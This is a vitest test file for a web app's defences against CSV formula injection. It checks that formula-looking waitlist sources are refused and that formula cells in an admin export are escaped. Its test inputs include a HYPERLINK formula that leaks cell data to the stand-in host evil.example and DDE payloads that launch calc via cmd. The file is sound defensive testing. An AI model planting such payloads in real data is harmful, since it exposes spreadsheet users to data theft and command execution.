/**
 * Formula injection through CSV exports: an attacker plants `=HYPERLINK(…)` (or a DDE payload) in a
 * value that an admin later exports and opens in a spreadsheet. The waitlist refuses formula-looking
 * sources, and the export defuses every formula-looking cell, however the value got into the table.
 */
import { describe, expect, it } from 'vitest';
import { createUser, kit, randomIp, sql, uniqueEmail } from '../identity/support.ts';

/** RFC 4180 parser: rows of cells, quotes undone. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i += 1;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV exports', () => {
  it('an attacker cannot store a formula as a waitlist source', async () => {
    const email = uniqueEmail('formula');
    for (const source of ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)']) {
      const { error } = await kit({ ip: randomIp() }).auth.joinWaitlist({ email, source });
      expect({ source, code: error?.code }).toEqual({ source, code: 'validation_failed' });
    }
    expect(await sql('select 1 from public.waitlist where email = $1', [email])).toEqual([]);
  });

  it('an admin exporting the waitlist gets no cell a spreadsheet would run, whatever is in the table', async () => {
    const admin = await createUser('admin');
    // Values that reached the table some other way (an import, a Studio edit): the e-mail check allows these.
    const planted = [`=hyperlink("http://evil.example")@${Date.now()}.example`, `+cmd|calc!a0-${Date.now()}@x.example`, `-2+3+cmd|calc!a0-${Date.now()}@x.example`];
    for (const email of planted) await sql('insert into public.waitlist (email, source) values ($1, $2)', [email, 'import']);
    const { data: csv, error } = await admin.kit.admin.waitlist.exportCsv();
    expect(error).toBeNull();
    const rows = parseCsv(csv!);
    expect(rows[0]).toEqual(['email', 'source', 'request_count', 'created_at', 'last_requested_at']);
    const cells = rows.flat();
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    for (const email of planted) expect(cells).toContain(`'${email}`);
  });
});
